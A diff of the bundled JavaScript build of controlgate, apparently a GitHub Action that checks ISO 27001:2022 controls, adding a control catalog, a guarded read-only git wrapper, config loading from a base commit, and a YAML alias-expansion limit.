+/* harmony import */ var _cli_main_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(2386);
 
 process.exitCode = await (0,_cli_main_js__WEBPACK_IMPORTED_MODULE_0__/* .main */ .iW)(process.argv.slice(2));
 
@@ -19113,7 +23238,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 6311:
+/***/ 2386:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -19130,33 +23255,6 @@ const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import
 const external_node_path_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");
 ;// CONCATENATED MODULE: external "node:util"
 const external_node_util_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util");
-;// CONCATENATED MODULE: external "node:child_process"
-const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(4006);
-;// CONCATENATED MODULE: ./lib/core/types.js
-/**
- * Public data model of controlgate: rules, findings, the report. Everything an output sees is a
- * {@link Report}; everything a rule produces passes through `createFinding` (see finding.ts).
- */
-/** Ordered from least to most severe. */
-const SEVERITIES = ['info', 'low', 'medium', 'high', 'critical'];
-/** A logger that drops everything (tests, library use). */
-const silentLogger = {
-    debug() { },
-    info() { },
-    warning() { },
-    error() { },
-};
-/** Raised for problems the user must fix (bad config, bad rule file, missing path). Exit code 2. */
-class UsageError extends Error {
-    name = 'UsageError';
-}
-
-// EXTERNAL MODULE: ./node_modules/ajv/dist/ajv.js
-var ajv = __nccwpck_require__(2463);
-// EXTERNAL MODULE: ./node_modules/ajv-formats/dist/index.js
-var dist = __nccwpck_require__(2815);
 ;// CONCATENATED MODULE: external "node:url"
 const external_node_url_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:url");
 ;// CONCATENATED MODULE: ./lib/core/paths.js
@@ -19189,6 +23287,311 @@ function packagePath(...parts) {
     return external_node_path_namespaceObject.join(packageRoot(), ...parts);
 }
 
+;// CONCATENATED MODULE: ./lib/core/catalog.js
+
+
+let controls;
+let byId;
+let by2013;
+/** All 34 controls, in catalog order (8.1 .. 8.34). */
+function allControls() {
+    if (!controls) {
+        const raw = JSON.parse((0,external_node_fs_namespaceObject.readFileSync)(packagePath('data', 'controls.json'), 'utf8'));
+        controls = raw.controls;
+    }
+    return controls;
+}
+/** The control with a 2022 id such as "8.28", or undefined. */
+function getControl(id) {
+    byId ??= new Map(allControls().map((c) => [c.id, c]));
+    return byId.get(id);
+}
+/**
+ * The technological 2022 controls that replace an ISO/IEC 27001:2013 Annex A id such as "A.9.2.3".
+ * Empty when the old control maps only to organisational, people or physical controls.
+ */
+function controlsFrom2013(id) {
+    if (!by2013) {
+        by2013 = new Map();
+        for (const c of allControls()) {
+            for (const old of c.iso27001_2013) {
+                const list = by2013.get(old) ?? [];
+                list.push(c);
+                by2013.set(old, list);
+            }
+        }
+    }
+    return by2013.get(normalize2013(id)) ?? [];
+}
+/** Accepts "A.9.2.3", "a.9.2.3" and "9.2.3". */
+function normalize2013(id) {
+    const t = id.trim();
+    return /^a\./i.test(t) ? `A.${t.slice(2)}` : `A.${t}`;
+}
+/** Sorts control ids numerically ("8.2" before "8.10"). */
+function compareControlIds(a, b) {
+    const pa = a.split('.').map(Number);
+    const pb = b.split('.').map(Number);
+    for (let i = 0; i < Math.max(pa.length, pb.length); i++) {
+        const d = (pa[i] ?? 0) - (pb[i] ?? 0);
+        if (d !== 0)
+            return d;
+    }
+    return 0;
+}
+
+;// CONCATENATED MODULE: external "node:child_process"
+const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
+;// CONCATENATED MODULE: ./lib/core/git.js
+/**
+ * Read-only access to a git repository: resolve a commit, list and read files of its tree. The one
+ * place controlgate runs git, so every call goes through the same guards: `execFile` with an
+ * argument array (never a shell), refs refused when they could be read as options, bounded output,
+ * and no command that writes to the repository. Policy-from-base uses it today; evaluating the base
+ * tree (new versus existing findings) will reuse it.
+ */
+
+/** Most bytes read from one blob; policy files are small, and rule files are refused above 256 KiB. */
+const MAX_BLOB_BYTES = 1024 * 1024;
+/** Most bytes of a listing (ls-tree, ls-files); a tree with more is refused rather than truncated. */
+const MAX_LIST_BYTES = 64 * 1024 * 1024;
+const TIMEOUT_MS = 30_000;
+/** A git work tree (or a directory inside one) at `dir`. */
+class GitRepository {
+    dir;
+    /** The directory's path from the top of the work tree, with a trailing `/` (or empty). */
+    prefix;
+    constructor(dir, prefix) {
+        this.dir = dir;
+        this.prefix = prefix;
+    }
+    /** The repository that contains `dir`, or undefined when git is unavailable or `dir` is not in one. */
+    static open(dir) {
+        const inside = run(dir, ['rev-parse', '--is-inside-work-tree']);
+        if (inside?.toString().trim() !== 'true')
+            return undefined;
+        const prefix = run(dir, ['rev-parse', '--show-prefix'])?.toString().trim() ?? '';
+        return new GitRepository(dir, prefix);
+    }
+    /** The full commit id a ref (sha, branch, tag, `HEAD~1`) names, or undefined. */
+    resolveCommit(ref) {
+        if (!isSafeRef(ref))
+            return undefined;
+        const out = run(this.dir, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`]);
+        const sha = out?.toString().trim();
+        return sha && /^[0-9a-f]{40,64}$/.test(sha) ? sha : undefined;
+    }
+    /** The commit checked out, or undefined (no commit yet, or not a repository). */
+    head() {
+        return this.resolveCommit('HEAD');
+    }
+    /**
+     * The default branch as the remote reports it (`origin/HEAD`), else undefined. CI checkouts often
+     * lack it; callers that know the branch (the Action reads it from the event) pass it instead.
+     */
+    defaultBranch() {
+        const out = run(this.dir, ['symbolic-ref', '--quiet', '--short', 'refs/remotes/origin/HEAD']);
+        const name = out?.toString().trim();
+        return name ? name.replace(/^origin\//, '') : undefined;
+    }
+    /**
+     * Reads a file of a commit; `file` is relative to this directory (POSIX separators). Symbolic
+     * links and submodules are reported as `not-a-file`: their target is never followed.
+     */
+    readFile(commit, file, maxBytes = MAX_BLOB_BYTES) {
+        if (!isSafePath(file))
+            return { kind: 'missing' };
+        const entry = this.entry(commit, file);
+        if (!entry)
+            return { kind: 'missing' };
+        if (entry.type !== 'blob' || entry.mode === '120000')
+            return { kind: 'not-a-file' };
+        if (entry.size > maxBytes)
+            return { kind: 'too-large', size: entry.size };
+        const out = run(this.dir, ['cat-file', 'blob', entry.object], maxBytes + 1);
+        if (!out)
+            return { kind: 'missing' };
+        let text = out.toString('utf8');
+        if (text.charCodeAt(0) === 0xfeff)
+            text = text.slice(1);
+        return { kind: 'text', text };
+    }
+    /** Regular files under `dir` (relative to this directory) in a commit, recursively, sorted. */
+    listFiles(commit, dir) {
+        const base = dir.replace(/^\.\/?/, '').replace(/\/+$/, '');
+        if (base !== '' && !isSafePath(base))
+            return [];
+        const spec = `${commit}:${this.prefix}${base}`;
+        const out = run(this.dir, ['ls-tree', '-r', '-z', '--full-tree', '--end-of-options', spec], MAX_LIST_BYTES);
+        if (!out)
+            return [];
+        const files = [];
+        for (const record of out.toString('utf8').split('\0')) {
+            const m = /^(\d+) (\w+) [0-9a-f]+\t(.+)$/s.exec(record);
+            if (m?.[2] !== 'blob' || m[1] === '120000')
+                continue;
+            files.push(base ? `${base}/${m[3]}` : m[3]);
+        }
+        return files.sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
+    }
+    entry(commit, file) {
+        const full = `${this.prefix}${file}`;
+        const out = run(this.dir, ['ls-tree', '-l', '-z', '--full-tree', '--end-of-options', commit, '--', full]);
+        const record = out?.toString('utf8').split('\0')[0];
+        const m = record ? /^(\d+) (\w+) ([0-9a-f]+) +(-|\d+)\t(.+)$/s.exec(record) : null;
+        if (!m || m[5] !== full)
+            return undefined;
+        return { mode: m[1], type: m[2], object: m[3], size: m[4] === '-' ? 0 : Number(m[4]) };
+    }
+}
+/** A ref that git cannot mistake for an option or a path with special syntax. */
+function isSafeRef(ref) {
+    return /^[A-Za-z0-9._/~^@{}-]+$/.test(ref) && !ref.startsWith('-') && ref.length <= 256;
+}
+/** A relative path inside the tree: no absolute path, no `..`, no NUL. */
+function isSafePath(file) {
+    return file !== '' && !file.startsWith('/') && !file.includes('\0') && !file.split('/').includes('..');
+}
+/** Runs git read-only; undefined when it fails, times out or exceeds the output bound. */
+function run(cwd, args, maxBuffer = 1024 * 1024) {
+    try {
+        return (0,external_node_child_process_namespaceObject.execFileSync)('git', ['-c', 'core.quotepath=off', ...args], {
+            cwd,
+            maxBuffer,
+            timeout: TIMEOUT_MS,
+            stdio: ['ignore', 'pipe', 'ignore'],
+            // Reads only: never prompt for credentials, never take the index lock another git may need.
+            env: { ...process.env, GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0' },
+        });
+    }
+    catch {
+        return undefined;
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/policy/tree.js
+/**
+ * A read-only view of one version of the repository's files, for reading policy (config,
+ * declarations, custom rules): the working tree (head) or a commit (base, through git objects). A
+ * later integration can supply another reader (e.g. the GitHub contents API) for a base commit that
+ * the checkout does not have; see `CheckOptions.baseTree`.
+ */
+
+
+
+/** The working tree at `root`. Reads refuse symbolic links and anything resolving outside `root`. */
+function fsTree(root) {
+    const realRoot = safeRealpath(root) ?? external_node_path_namespaceObject.resolve(root);
+    const inside = (abs) => {
+        const real = safeRealpath(abs);
+        return real !== undefined && (real === realRoot || real.startsWith(realRoot + external_node_path_namespaceObject.sep));
+    };
+    return {
+        label: 'the working tree',
+        read(file, maxBytes = MAX_BLOB_BYTES) {
+            if (!isRelative(file))
+                return { kind: 'missing' };
+            const abs = external_node_path_namespaceObject.join(root, file);
+            let stat;
+            try {
+                stat = (0,external_node_fs_namespaceObject.lstatSync)(abs);
+            }
+            catch {
+                return { kind: 'missing' };
+            }
+            if (!stat.isFile() || !inside(abs))
+                return { kind: 'not-a-file' };
+            if (stat.size > maxBytes)
+                return { kind: 'too-large', size: stat.size };
+            let text = (0,external_node_fs_namespaceObject.readFileSync)(abs, 'utf8');
+            if (text.charCodeAt(0) === 0xfeff)
+                text = text.slice(1);
+            return { kind: 'text', text };
+        },
+        list(dir) {
+            const base = dir.replace(/^\.\/?/, '').replace(/\/+$/, '');
+            if (base !== '' && !isRelative(base))
+                return [];
+            const start = external_node_path_namespaceObject.join(root, base);
+            if (!inside(start))
+                return [];
+            const out = [];
+            const visit = (rel) => {
+                let entries;
+                try {
+                    entries = (0,external_node_fs_namespaceObject.readdirSync)(external_node_path_namespaceObject.join(start, rel), { withFileTypes: true });
+                }
+                catch {
+                    return;
+                }
+                for (const e of entries) {
+                    const child = rel ? `${rel}/${e.name}` : e.name;
+                    if (e.isDirectory())
+                        visit(child);
+                    else if (e.isFile())
+                        out.push(base ? `${base}/${child}` : child);
+                }
+            };
+            visit('');
+            return out.sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
+        },
+    };
+}
+/** The tree of a commit, read through git objects (no checkout, nothing written). */
+function gitTree(repo, commit) {
+    return {
+        label: `base commit ${commit.slice(0, 12)}`,
+        read: (file, maxBytes) => repo.readFile(commit, file, maxBytes),
+        list: (dir) => repo.listFiles(commit, dir),
+    };
+}
+/** Whether a path is relative and stays inside the root. */
+function isRelative(file) {
+    return file !== '' && !external_node_path_namespaceObject.isAbsolute(file) && !file.includes('\0') && !file.split(/[\\/]/).includes('..');
+}
+function safeRealpath(p) {
+    try {
+        return (0,external_node_fs_namespaceObject.realpathSync)(p);
+    }
+    catch {
+        return undefined;
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/types.js
+/**
+ * Public data model of controlgate: rules, findings, the report. Everything an output sees is a
+ * {@link Report}; everything a rule produces passes through `createFinding` (see finding.ts).
+ */
+/** Ordered from least to most severe. */
+const SEVERITIES = ['info', 'low', 'medium', 'high', 'critical'];
+/** Implementation status declared in the Statement of Applicability (`.github/controls.yml`). */
+const DECLARED_STATUSES = (/* unused pure expression or super */ null && (['implemented', 'partial', 'planned', 'not-applicable']));
+/** controlgate's judgement of one control; the order is the order people should read them in. */
+const VERDICTS = [
+    'gap',
+    'unverifiable',
+    'undeclared',
+    'planned',
+    'satisfied',
+    'not-applicable',
+];
+/** A logger that drops everything (tests, library use). */
+const silentLogger = {
+    debug() { },
+    info() { },
+    warning() { },
+    error() { },
+};
+/** Raised for problems the user must fix (bad config, bad rule file, missing path). Exit code 2. */
+class UsageError extends Error {
+    name = 'UsageError';
+}
+
+// EXTERNAL MODULE: ./node_modules/ajv/dist/ajv.js
+var ajv = __nccwpck_require__(2463);
+// EXTERNAL MODULE: ./node_modules/ajv-formats/dist/index.js
+var dist = __nccwpck_require__(2815);
 ;// CONCATENATED MODULE: ./lib/core/validate.js
 
 
@@ -19244,7 +23647,9 @@ function formatProblem(file, p) {
 }
 function extraToken(e) {
     if (e.keyword === 'additionalProperties') {
-        return `/${String(e.params.additionalProperty).replace(/~/g, '~0').replace(/\//g, '~1')}`;
+        return `/${String(e.params.additionalProperty)
+            .replace(/~/g, '~0')
+            .replace(/\//g, '~1')}`;
     }
     return '';
 }
@@ -19263,6 +23668,10 @@ function explain(e) {
             return `must be of type ${String(p.type)}`;
         case 'pattern':
             return `must match the pattern ${String(p.pattern)}`;
+        case 'format':
+            return p.format === 'date'
+                ? 'must be a date written YYYY-MM-DD'
+                : `must be a valid ${String(p.format)}`;
         default:
             return e.message ?? `failed the "${e.keyword}" check`;
     }
@@ -22981,9 +27390,20 @@ class LineIndex {
 const MAX_DEPTH = 100;
 const MAX_ALIASES = 1000;
 const MAX_MERGE_KEYS = 10_000;
+/**
+ * Bound on the number of nodes a document would have with every alias expanded. Aliases are shared,
+ * not copied, when the value is built, but any consumer that walks the value (an audit, a schema
+ * check, JSON.stringify) pays the expanded size: a "billion laughs" document of a few hundred bytes
+ * expands to 10^40 nodes. Real configuration stays far below this.
+ */
+const MAX_EXPANDED_NODES = 200_000;
 /** Escapes one reference token of a JSON pointer. */
 function escapePointerToken(token) {
     return String(token).replace(/~/g, '~0').replace(/\//g, '~1');
+}
+/** Reverses {@link escapePointerToken}. */
+function unescapePointerToken(token) {
+    return token.replace(/~1/g, '/').replace(/~0/g, '~');
 }
 /** Joins tokens into a JSON pointer. */
 function pointer(...tokens) {
@@ -23002,6 +27422,9 @@ function parseYaml(text, filename) {
     catch (err) {
         return { ok: false, error: toYamlError(err, lines) };
     }
+    const bomb = aliasExpansionError(events, text, lines);
+    if (bomb)
+        return { ok: false, error: bomb };
     let values;
     try {
         const options = {
@@ -23041,9 +27464,83 @@ function parseYaml(text, filename) {
                     current = current.slice(0, current.lastIndexOf('/'));
                 }
             },
+            sourceKeys(p) {
+                const prefix = `${p}/`;
+                const keys = [];
+                for (const [child, [, , keyStart]] of map) {
+                    if (keyStart < 0 || !child.startsWith(prefix) || child.indexOf('/', prefix.length) !== -1)
+                        continue;
+                    keys.push({ key: unescapePointerToken(child.slice(prefix.length)), at: keyStart });
+                }
+                return keys.sort((a, b) => a.at - b.at).map((k) => k.key);
+            },
         };
     });
     return { ok: true, documents };
+}
+/** Sizes every anchored node once and rejects a document whose aliases expand past the bound. */
+function aliasExpansionError(events, text, lines) {
+    if (!events.some((e) => e.type === EVENT_ID.ALIAS))
+        return undefined;
+    const anchors = new Map();
+    // One counter per open collection: [expanded size so far, anchor name or '', start offset].
+    const stack = [];
+    let total = 0;
+    const add = (size, at) => {
+        const top = stack[stack.length - 1];
+        if (top)
+            top[0] += size;
+        else
+            total += size;
+        if (size > MAX_EXPANDED_NODES || total > MAX_EXPANDED_NODES || (top && top[0] > MAX_EXPANDED_NODES)) {
+            const pos = lines.position(Math.max(0, at));
+            return {
+                message: `aliases expand to more than ${MAX_EXPANDED_NODES} nodes; refusing to expand it (a "billion laughs" document)`,
+                line: pos.line,
+                column: pos.column,
+            };
+        }
+        return undefined;
+    };
+    const anchorOf = (start, end) => (start >= 0 ? text.slice(start, end) : '');
+    for (const ev of events) {
+        switch (ev.type) {
+            case EVENT_ID.DOCUMENT:
+                total = 0;
+                break;
+            case EVENT_ID.MAPPING:
+            case EVENT_ID.SEQUENCE:
+                stack.push([1, anchorOf(ev.anchorStart, ev.anchorEnd), ev.start]);
+                break;
+            case EVENT_ID.SCALAR: {
+                const name = anchorOf(ev.anchorStart, ev.anchorEnd);
+                if (name)
+                    anchors.set(name, 1);
+                const err = add(1, ev.valueStart);
+                if (err)
+                    return err;
+                break;
+            }
+            case EVENT_ID.ALIAS: {
+                const err = add(anchors.get(text.slice(ev.anchorStart, ev.anchorEnd)) ?? 1, ev.anchorStart);
+                if (err)
+                    return err;
+                break;
+            }
+            case EVENT_ID.POP: {
+                const done = stack.pop();
+                if (!done)
+                    break;
+                if (done[1])
+                    anchors.set(done[1], done[0]);
+                const err = add(done[0], done[2]);
+                if (err)
+                    return err;
+                break;
+            }
+        }
+    }
+    return undefined;
 }
 function toYamlError(err, lines) {
     if (err instanceof YAMLException) {
@@ -23079,7 +27576,10 @@ function indexPositions(events, text) {
         if (parent.expectKey)
             return 'key';
         parent.expectKey = true;
-        return { p: `${parent.pointer}/${escapePointerToken(parent.pendingKey ?? '')}`, key: parent.pendingKeyStart };
+        return {
+            p: `${parent.pointer}/${escapePointerToken(parent.pendingKey ?? '')}`,
+            key: parent.pendingKeyStart,
+        };
     };
     const extend = (end) => {
         for (const frame of stack)
@@ -23172,24 +27672,34 @@ const MAX_CONFIG_BYTES = 512 * 1024;
  * {@link UsageError} naming the file, line, JSON pointer and the expectation.
  */
 function loadConfig(root, configPath) {
-    let rel;
-    if (configPath) {
-        rel = configPath;
-        if (!(0,external_node_fs_namespaceObject.existsSync)(external_node_path_namespaceObject.resolve(root, rel)))
-            throw new UsageError(`config file not found: ${configPath}`);
+    if (configPath && external_node_path_namespaceObject.isAbsolute(configPath)) {
+        // A config outside the checked tree (e.g. shared by several checks) is read where it is.
+        const dir = external_node_path_namespaceObject.dirname(configPath);
+        return readConfig(fsTree(dir), external_node_path_namespaceObject.basename(configPath), { required: true, display: configPath });
     }
-    else {
-        rel = DEFAULT_CONFIG_FILES.find((f) => (0,external_node_fs_namespaceObject.existsSync)(external_node_path_namespaceObject.join(root, f)));
+    return readConfig(fsTree(root), configPath, { required: true });
+}
+/**
+ * Reads the configuration from a tree (the working tree, or a base commit). With `required`, an
+ * explicit path that does not exist is an error; without it (a base commit that predates the file)
+ * it means defaults.
+ */
+function readConfig(tree, configPath, options) {
+    const candidates = configPath ? [configPath.replace(/^\.\//, '')] : DEFAULT_CONFIG_FILES;
+    for (const rel of candidates) {
+        const file = tree.read(rel, MAX_CONFIG_BYTES);
+        const display = options.display ?? rel;
+        if (file.kind === 'missing')
+            continue;
+        if (file.kind === 'not-a-file')
+            throw new UsageError(`config file is not a regular file: ${display}`);
+        if (file.kind === 'too-large')
+            throw new UsageError(`config file is larger than ${MAX_CONFIG_BYTES} bytes: ${display}`);
+        return parseConfig(file.text, display);
     }
-    if (!rel)
-        return { file: null, include: [], exclude: [], ruleDirs: [], rules: {} };
-    const abs = external_node_path_namespaceObject.resolve(root, rel);
-    const stat = (0,external_node_fs_namespaceObject.lstatSync)(abs);
-    if (!stat.isFile())
-        throw new UsageError(`config file is not a regular file: ${rel}`);
-    if (stat.size > MAX_CONFIG_BYTES)
-        throw new UsageError(`config file is larger than ${MAX_CONFIG_BYTES} bytes: ${rel}`);
-    return parseConfig((0,external_node_fs_namespaceObject.readFileSync)(abs, 'utf8'), rel);
+    if (configPath && options.required)
+        throw new UsageError(`config file not found: ${configPath}`);
+    return { file: null, include: [], exclude: [], ruleDirs: [], rules: {} };
 }
 /** Parses and validates config text; `file` is used in error messages and recorded in the report. */
 function parseConfig(text, file) {
@@ -23224,13 +27734,4949 @@ function parseConfig(text, file) {
     };
     if (raw['fail-on'])
         config.failOn = raw['fail-on'];
+    if (raw.controls)
+        config.controls = raw.controls;
+    if (raw['fail-on-gap'] !== undefined)
+        config.failOnGap = raw['fail-on-gap'];
+    if (raw['require-declarations'])
+        config.requireDeclarations = raw['require-declarations'];
+    if (raw['exception-max-days'] !== undefined)
+        config.exceptionMaxDays = raw['exception-max-days'];
     return config;
+}
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(4006);
+;// CONCATENATED MODULE: ./lib/core/location.js
+/** A location for the source range [start, end) of a file's text. */
+function locationFromOffsets(path, lines, start, end) {
+    const s = lines.position(start);
+    const e = lines.position(Math.max(start, end - 1));
+    return { path, startLine: s.line, startColumn: s.column, endLine: e.line, endColumn: e.column };
+}
+/** A location for a YAML node; `onKey` points at the mapping key instead of the value. */
+function locationFromSpan(path, span, onKey = false) {
+    if (onKey && span.key) {
+        return { path, startLine: span.key.line, startColumn: span.key.column, endLine: span.key.line };
+    }
+    return {
+        path,
+        startLine: span.start.line,
+        startColumn: span.start.column,
+        endLine: span.end.line,
+        endColumn: span.end.column,
+    };
+}
+/** A whole-file location (line 1), for findings about a file rather than a line in it. */
+function fileLocation(path) {
+    return { path, startLine: 1 };
+}
+
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/ast.js
+class Expr {
+}
+class Literal extends Expr {
+    constructor(literal, token) {
+        super();
+        this.literal = literal;
+        this.token = token;
+    }
+    accept(v) {
+        return v.visitLiteral(this);
+    }
+}
+class Unary extends Expr {
+    constructor(operator, expr) {
+        super();
+        this.operator = operator;
+        this.expr = expr;
+    }
+    accept(v) {
+        return v.visitUnary(this);
+    }
+}
+class FunctionCall extends Expr {
+    constructor(functionName, args) {
+        super();
+        this.functionName = functionName;
+        this.args = args;
+    }
+    accept(v) {
+        return v.visitFunctionCall(this);
+    }
+}
+class Binary extends Expr {
+    constructor(left, operator, right) {
+        super();
+        this.left = left;
+        this.operator = operator;
+        this.right = right;
+    }
+    accept(v) {
+        return v.visitBinary(this);
+    }
+}
+class Logical extends Expr {
+    constructor(operator, args) {
+        super();
+        this.operator = operator;
+        this.args = args;
+    }
+    accept(v) {
+        return v.visitLogical(this);
+    }
+}
+class Grouping extends Expr {
+    constructor(group) {
+        super();
+        this.group = group;
+    }
+    accept(v) {
+        return v.visitGrouping(this);
+    }
+}
+class ContextAccess extends Expr {
+    constructor(name) {
+        super();
+        this.name = name;
+    }
+    accept(v) {
+        return v.visitContextAccess(this);
+    }
+}
+class IndexAccess extends Expr {
+    constructor(expr, index) {
+        super();
+        this.expr = expr;
+        this.index = index;
+    }
+    accept(v) {
+        return v.visitIndexAccess(this);
+    }
+}
+class ast_Star extends Expr {
+    accept() {
+        throw new Error("Method not implemented.");
+    }
+}
+//# sourceMappingURL=ast.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/expressiondata.js
+var expressiondata_Kind;
+(function (Kind) {
+    Kind[Kind["String"] = 0] = "String";
+    Kind[Kind["Array"] = 1] = "Array";
+    Kind[Kind["Dictionary"] = 2] = "Dictionary";
+    Kind[Kind["Boolean"] = 3] = "Boolean";
+    Kind[Kind["Number"] = 4] = "Number";
+    Kind[Kind["CaseSensitiveDictionary"] = 5] = "CaseSensitiveDictionary";
+    Kind[Kind["Null"] = 6] = "Null";
+})(expressiondata_Kind || (expressiondata_Kind = {}));
+function kindStr(k) {
+    switch (k) {
+        case expressiondata_Kind.Array:
+            return "Array";
+        case expressiondata_Kind.Boolean:
+            return "Boolean";
+        case expressiondata_Kind.Null:
+            return "Null";
+        case expressiondata_Kind.Number:
+            return "Number";
+        case expressiondata_Kind.Dictionary:
+            return "Object";
+        case expressiondata_Kind.String:
+            return "String";
+    }
+    return "unknown";
+}
+//# sourceMappingURL=expressiondata.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/dictionary.js
+
+class Dictionary {
+    constructor(...pairs) {
+        this.keys = [];
+        this.v = [];
+        this.indexMap = {};
+        this.kind = expressiondata_Kind.Dictionary;
+        this.primitive = false;
+        for (const p of pairs) {
+            this.add(p.key, p.value);
+        }
+    }
+    coerceString() {
+        return kindStr(this.kind);
+    }
+    number() {
+        return NaN;
+    }
+    add(key, value) {
+        if (key.toLowerCase() in this.indexMap) {
+            return;
+        }
+        this.keys.push(key);
+        this.v.push(value);
+        this.indexMap[key.toLowerCase()] = this.v.length - 1;
+    }
+    get(key) {
+        const index = this.indexMap[key.toLowerCase()];
+        if (index === undefined) {
+            return undefined;
+        }
+        return this.v[index];
+    }
+    values() {
+        return this.v;
+    }
+    pairs() {
+        const result = [];
+        for (const key of this.keys) {
+            result.push({ key, value: this.v[this.indexMap[key.toLowerCase()]] });
+        }
+        return result;
+    }
+}
+function dictionary_isDictionary(x) {
+    return x.kind === Kind.Dictionary;
+}
+//# sourceMappingURL=dictionary.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/array.js
+
+class array_Array {
+    constructor(...data) {
+        this.v = [];
+        this.kind = expressiondata_Kind.Array;
+        this.primitive = false;
+        for (const d of data) {
+            this.add(d);
+        }
+    }
+    coerceString() {
+        return kindStr(this.kind);
+    }
+    number() {
+        return NaN;
+    }
+    add(value) {
+        this.v.push(value);
+    }
+    get(index) {
+        return this.v[index];
+    }
+    values() {
+        return this.v;
+    }
+}
+//# sourceMappingURL=array.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/boolean.js
+
+class BooleanData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.Boolean;
+        this.primitive = true;
+    }
+    coerceString() {
+        if (this.value) {
+            return "true";
+        }
+        return "false";
+    }
+    number() {
+        if (this.value) {
+            return 1;
+        }
+        return 0;
+    }
+}
+//# sourceMappingURL=boolean.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/null.js
+
+class Null {
+    constructor() {
+        this.kind = expressiondata_Kind.Null;
+        this.primitive = true;
+    }
+    coerceString() {
+        return "";
+    }
+    number() {
+        return 0;
+    }
+}
+//# sourceMappingURL=null.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/number.js
+
+class NumberData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.Number;
+        this.primitive = true;
+    }
+    coerceString() {
+        if (this.value === 0) {
+            return "0";
+        }
+        // Workaround to limit the precision to at most 15 digits. Format the number to a string, then parse
+        // it back to a number to remove trailing zeroes to prevent numbers to be converted to 1.200000000...
+        return (+this.value.toFixed(15)).toString();
+    }
+    number() {
+        return this.value;
+    }
+}
+//# sourceMappingURL=number.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/string.js
+
+class StringData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.String;
+        this.primitive = true;
+    }
+    coerceString() {
+        return this.value;
+    }
+    number() {
+        return Number(this.value);
+    }
+}
+//# sourceMappingURL=string.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/replacer.js
+
+
+
+
+
+
+/**
+ * Replacer can be passed to JSON.stringify to convert an ExpressionData object into plain JSON
+ *
+ * See: https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/JSON/stringify#replacer
+ */
+function replacer(_key, value) {
+    if (value instanceof Null) {
+        return null;
+    }
+    if (value instanceof BooleanData) {
+        return value.value;
+    }
+    if (value instanceof NumberData) {
+        return value.number();
+    }
+    if (value instanceof StringData) {
+        return value.coerceString();
+    }
+    if (value instanceof array_Array) {
+        return value.values();
+    }
+    if (value instanceof Dictionary) {
+        const pairs = value.pairs();
+        const r = {};
+        for (const p of pairs) {
+            r[p.key] = p.value;
+        }
+        return r;
+    }
+    return value;
+}
+//# sourceMappingURL=replacer.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/reviver.js
+
+
+
+
+
+
+/**
+ * Reviver can be passed to `JSON.parse` to convert plain JSON into an `ExpressionData` object.
+ *
+ * See: https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/JSON/parse#reviver
+ */
+function reviver(_key, val) {
+    if (val === null) {
+        return new Null();
+    }
+    if (typeof val === "string") {
+        return new StringData(val);
+    }
+    if (typeof val === "number") {
+        return new NumberData(val);
+    }
+    if (typeof val === "boolean") {
+        return new BooleanData(val);
+    }
+    if (Array.isArray(val)) {
+        return new array_Array(...val);
+    }
+    if (typeof val === "object") {
+        return new Dictionary(...Object.keys(val).map(k => ({
+            key: k,
+            value: val[k]
+        })));
+    }
+    // Pass through value
+    return val;
+}
+//# sourceMappingURL=reviver.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/index.js
+
+
+
+
+
+
+
+
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/filtered_array.js
+
+class filtered_array_FilteredArray extends array_Array {
+}
+//# sourceMappingURL=filtered_array.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/lexer.js
+
+
+var lexer_TokenType;
+(function (TokenType) {
+    TokenType[TokenType["UNKNOWN"] = 0] = "UNKNOWN";
+    TokenType[TokenType["LEFT_PAREN"] = 1] = "LEFT_PAREN";
+    TokenType[TokenType["RIGHT_PAREN"] = 2] = "RIGHT_PAREN";
+    TokenType[TokenType["LEFT_BRACKET"] = 3] = "LEFT_BRACKET";
+    TokenType[TokenType["RIGHT_BRACKET"] = 4] = "RIGHT_BRACKET";
+    TokenType[TokenType["COMMA"] = 5] = "COMMA";
+    TokenType[TokenType["DOT"] = 6] = "DOT";
+    TokenType[TokenType["BANG"] = 7] = "BANG";
+    TokenType[TokenType["BANG_EQUAL"] = 8] = "BANG_EQUAL";
